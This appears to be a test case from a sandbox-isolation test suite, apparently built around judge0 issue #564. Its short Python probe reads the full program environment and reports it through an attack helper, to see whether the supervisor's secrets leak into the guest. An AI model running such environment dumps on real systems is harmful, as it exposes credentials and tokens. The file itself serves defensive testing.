# guest: reads the environment of the program that started it
# source: judge0/judge0 #564
# attacks: secrets in the supervisor's environment
# walls: Environment
# observer: secret_in_output
# oracle: a secret of the supervisor's environment comes out
# status: ok
# credit: HOME
import os

from attack import tell

tell("environment", dict(os.environ))
